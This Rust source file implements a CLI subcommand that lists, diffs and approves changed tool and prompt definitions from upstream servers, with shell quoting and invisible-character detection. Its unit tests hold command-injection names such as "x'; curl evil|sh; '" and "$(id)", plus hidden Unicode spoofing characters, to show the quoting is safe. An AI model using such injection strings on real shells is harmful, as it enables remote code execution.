//! `airlock tools`: the locks of tools, what is held back, and letting it in.

use std::fmt::Write as _;
use std::process::ExitCode;

use airlock_tool_locks::definition::Kind;
use airlock_tool_locks::difference;
use airlock_tool_locks::hidden::revealed;
use clap::{Subcommand, ValueEnum};
use http::{Method, StatusCode};
use serde_json::{Value, json};

use crate::observe::escape::printable_json;
use crate::tool_locks::{Entry, Report, State};

use super::admin::{self, Common, text};
use super::print;

/// Shows what is locked and what is held back, and lets it in.
#[derive(Debug, clap::Args)]
pub struct Args {
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Show every tool, prompt and resource template, and if it is held back.
    List {
        /// Only those of this upstream.
        upstream: Option<String>,
        #[command(flatten)]
        common: Common,
    },
    /// Show how what is held back differs from what is locked, line by line.
    Diff {
        /// Only this: `UPSTREAM` or `UPSTREAM/NAME`.
        target: Option<String>,
        #[command(flatten)]
        common: Common,
    },
    /// Let in what is held back, as it is now.
    Approve {
        /// What: `UPSTREAM/NAME`, or `UPSTREAM` for all of it.
        target: String,
        /// The whole digest that `airlock tools diff` has shown, with or without `sha256:`: if it is another
        /// by now, nothing is let in.
        #[arg(long)]
        digest: Option<String>,
        /// Only what is of this kind, where a tool and a prompt have one name.
        #[arg(long)]
        kind: Option<KindWord>,
        #[command(flatten)]
        common: Common,
    },
    /// Lock an upstream as it is now: let in what is held back, and forget what it does not list any more.
    Lock {
        /// The upstream.
        upstream: String,
        #[command(flatten)]
        common: Common,
    },
}

/// A kind of what has a lock.
#[derive(Debug, Clone, Copy, ValueEnum)]
enum KindWord {
    Tool,
    Prompt,
    Template,
}

impl KindWord {
    const fn kind(self) -> Kind {
        match self {
            Self::Tool => Kind::Tools,
            Self::Prompt => Kind::Prompts,
            Self::Template => Kind::ResourceTemplates,
        }
    }
}

/// Runs the command. Exit code 0: done, or nothing is held back; 1: something is held back, or the daemon
/// refuses; 2: the daemon cannot be asked.
#[expect(clippy::needless_pass_by_value, reason = "all commands have this shape")]
pub fn run(args: Args) -> ExitCode {
    match &args.command {
        Command::List { upstream, common } => show(common, |report| list(report, upstream.as_deref())),
        Command::Diff { target, common } => show(common, |report| diff(report, target.as_deref())),
        Command::Approve { target, digest, kind, common } => {
            let (upstream, name) = parted(target);
            let kind = kind.map(|word| word.kind().noun());
            let order = json!({ "upstream": upstream, "name": name, "kind": kind, "digest": digest });
            ordered(common, "/tools/approve", &order)
        }
        Command::Lock { upstream, common } => {
            ordered(common, "/tools/lock", &json!({ "upstream": upstream }))
        }
    }
}

/// An upstream, and a name behind the first slash.
fn parted(target: &str) -> (&str, Option<&str>) {
    target.split_once('/').map_or((target, None), |(upstream, name)| (upstream, Some(name)))
}

fn failed(problem: &str) -> ExitCode {
    print::err(format_args!("airlock tools: {problem}\n"));
    ExitCode::from(2)
}

fn show(common: &Common, shown: impl Fn(&Report) -> (String, bool)) -> ExitCode {
    let answer = match admin::ask(&common.place, Method::GET, "/tools", None) {
        Ok((_, answer)) => answer,
        Err(problem) => return failed(&problem),
    };
    let report: Report = match serde_json::from_value(answer.clone()) {
        Ok(report) => report,
        Err(error) => {
            return failed(&format!("the daemon answers what this version does not understand: {error}"));
        }
    };
    let (text, is_held) = shown(&report);
    if common.json {
        print::out(format_args!("{}\n", printable_json(&format!("{answer:#}"))));
    } else {
        print::out(format_args!("{text}"));
    }
    if is_held { ExitCode::FAILURE } else { ExitCode::SUCCESS }
}

fn ordered(common: &Common, path: &str, order: &Value) -> ExitCode {
    let (status, answer) = match admin::ask(&common.place, Method::POST, path, Some(order)) {
        Ok(answer) => answer,
        Err(problem) => return failed(&problem),
    };
    if status != StatusCode::OK {
        print::err(format_args!("airlock tools: {}\n", text(&answer["error"])));
        return ExitCode::FAILURE;
    }
    if common.json {
        print::out(format_args!("{}\n", printable_json(&format!("{answer:#}"))));
        return ExitCode::SUCCESS;
    }
    for one in answer["approved"].as_array().into_iter().flatten() {
        print::out(format_args!(
            "locked: {} {} {}\n",
            text(&one["kind"]),
            text(&one["name"]),
            text(&one["digest"])
        ));
    }
    ExitCode::SUCCESS
}

/// The entries of a report that are asked for, each with its server's name.
fn entries<'a>(report: &'a Report, target: Option<&'a str>) -> impl Iterator<Item = (&'a str, &'a Entry)> {
    let (upstream, name) = target.map(parted).map_or((None, None), |(upstream, name)| (Some(upstream), name));
    let own = report.upstreams.iter().filter(move |one| upstream.is_none_or(|upstream| upstream == one.name));
    let all = own.flat_map(|one| one.entries.iter().map(|entry| (one.name.as_str(), entry)));
    all.filter(move |(_, entry)| name.is_none_or(|name| name == entry.name))
}

/// The servers that are asked for and have more held back than the report shows, and how many.
fn beyond<'a>(report: &'a Report, target: Option<&'a str>) -> impl Iterator<Item = (&'a str, usize)> {
    let upstream = target.map(|target| parted(target).0);
    let own = report.upstreams.iter().filter(move |one| upstream.is_none_or(|upstream| upstream == one.name));
    own.map(|one| (one.name.as_str(), one.beyond)).filter(|(_, count)| *count > 0)
}

fn list(report: &Report, upstream: Option<&str>) -> (String, bool) {
    let (mut out, mut is_held) = (String::new(), beyond(report, upstream).next().is_some());
    for alarm in &report.alarms {
        // Writing to a string does not fail.
        let _ = writeln!(out, "ALARM  {}", revealed(alarm));
    }
    for (upstream, entry) in entries(report, upstream) {
        is_held |= entry.state == State::Held;
        let state = match entry.state {
            State::Locked => "locked",
            State::Gone => "gone  ",
            State::Held => "HELD  ",
        };
        let why = entry.why.as_ref().map(|why| format!(": {}", revealed(why))).unwrap_or_default();
        let digest: String = entry.digest.chars().take("sha256:".len() + 12).collect();
        let name = revealed(&entry.name);
        let _ = writeln!(out, "{state}  {upstream}/{name} ({}, {digest}){why}", entry.kind);
    }
    if out.is_empty() {
        out.push_str("nothing is locked, and nothing is held back\n");
    }
    (out, is_held)
}

fn diff(report: &Report, target: Option<&str>) -> (String, bool) {
    let (mut out, mut is_held) = (String::new(), false);
    for (upstream, entry) in entries(report, target).filter(|(_, entry)| entry.state == State::Held) {
        is_held = true;
        let name = revealed(&entry.name);
        let why = revealed(entry.why.as_deref().unwrap_or_default()).into_owned();
        // Writing to a string does not fail.
        let _ = writeln!(out, "{upstream}/{name} ({}): it {why}", entry.kind);
        let (old, new) = (entry.locked.as_deref(), entry.definition.as_deref());
        for line in difference::between(old.unwrap_or_default(), new.unwrap_or_default()) {
            let _ = writeln!(out, "  {line}");
        }
        let _ = writeln!(out, "  {}\n", remedy(upstream, entry));
    }
    for (upstream, count) in beyond(report, target) {
        is_held = true;
        let _ = writeln!(
            out,
            "{upstream}: {count} more held back without room to keep them: approve what is shown, or have the server list \
             less"
        );
    }
    if !is_held {
        out.push_str("nothing is held back\n");
    }
    (out, is_held)
}

/// How an entry is let in: a command that can be copied, if its name can be. The server has chosen the name.
fn remedy(upstream: &str, entry: &Entry) -> String {
    let (name, digest) = (&entry.name, &entry.digest);
    if revealed(name) != *name {
        return format!(
            "its name has characters that nobody sees, so there is no command to copy: once you have looked at all that is \
             held back of {upstream}, `airlock tools approve {upstream}` lets it in ({digest})"
        );
    }
    let target = quoted(&format!("{upstream}/{name}"));
    let words = KindWord::value_variants().iter().find(|word| word.kind().noun() == entry.kind);
    let word = words.and_then(KindWord::to_possible_value);
    let kind = word.map(|word| format!(" --kind {}", word.get_name())).unwrap_or_default();
    format!("to let it in: airlock tools approve {target}{kind} --digest {digest}")
}

/// `text` as one word of a shell. A backslash stands outside of the quotes, since not all shells read it
/// alike within them.
fn quoted(text: &str) -> String {
    let mut word = String::with_capacity(text.len() + 2);
    word.push('\'');
    for c in text.chars() {
        match c {
            '\'' => word.push_str(r"'\''"),
            '\\' => word.push_str(r"'\\'"),
            c => word.push(c),
        }
    }
    word.push('\'');
    word
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_difference_shows_what_nobody_sees_and_how_to_let_it_in() {
        let entry = json!({"kind": "tool", "name": "read", "state": "held", "digest": "sha256:0123456789abcdef",
            "why": "has another description than the locked one", "since": null,
            "definition": "{\"description\":\"reads\u{200b}\",\"name\":\"read\"}",
            "locked": "{\"description\":\"reads\",\"name\":\"read\"}"});
        let report = json!({"mode": "approve", "file": "f", "alarms": [], "upstreams": [
            {"name": "docs", "bound_to": "stdio docs", "locked_as": null, "entries": [entry]}]});
        let report: Report = serde_json::from_value(report).expect("a report");
        let (shown, is_held) = diff(&report, Some("docs/read"));
        assert!(is_held && shown.contains("+   \"description\": \"reads⟨U+200B⟩\""), "{shown}");
        assert!(
            shown
                .contains("airlock tools approve 'docs/read' --kind tool --digest sha256:0123456789abcdef\n"),
            "{shown}"
        );
        assert_eq!(diff(&report, Some("other")), ("nothing is held back\n".to_owned(), false));
        let (listed, _) = list(&report, None);
        assert!(listed.starts_with("HELD    docs/read (tool, sha256:0123456789ab): has another"), "{listed}");
    }

    /// A report on one that is held back and has this name, and on more without room.
    fn named(name: &str, beyond: usize) -> Report {
        let entry = json!({"kind": "tool", "name": name, "state": "held", "digest": "sha256:00", "why": "is new",
            "since": null, "definition": "{}", "locked": null});
        let upstream = json!({"name": "docs", "bound_to": "stdio docs", "locked_as": null, "entries": [entry],
            "beyond": beyond});
        let report = json!({"mode": "approve", "file": "f", "alarms": [], "upstreams": [upstream]});
        serde_json::from_value(report).expect("a report")
    }

    #[test]
    fn a_name_is_one_word_of_the_command_or_there_is_no_command() {
        for (name, word) in [
            ("x'; curl evil|sh; '", r"'docs/x'\''; curl evil|sh; '\'''"),
            ("$(id) `id` !! \"", r#"'docs/$(id) `id` !! "'"#),
            (r"a\'; id; '", r"'docs/a'\\''\''; id; '\'''"),
        ] {
            let (shown, _) = diff(&named(name, 0), None);
            let command =
                format!("  to let it in: airlock tools approve {word} --kind tool --digest sha256:00\n");
            assert!(shown.contains(&command), "{shown}");
        }
        for name in ["read\u{200b}", "a\nb", "\u{202e}daer", "a\u{a0}b"] {
            let (shown, _) = diff(&named(name, 0), None);
            let is_told = shown.contains("characters that nobody sees, so there is no command to copy");
            assert!(is_told && !shown.contains("--digest"), "{shown}");
        }
    }

    #[test]
    fn what_has_no_room_is_held_back_as_well() {
        let mut report = named("read", 3);
        let (shown, _) = diff(&report, None);
        assert!(
            shown.contains("\ndocs: 3 more held back without room to keep them: approve what"),
            "{shown}"
        );
        report.upstreams[0].entries.clear();
        assert!(diff(&report, Some("docs")).1 && list(&report, Some("docs")).1);
        assert!(!diff(&report, Some("other")).1 && !list(&report, Some("other")).1);
    }
}
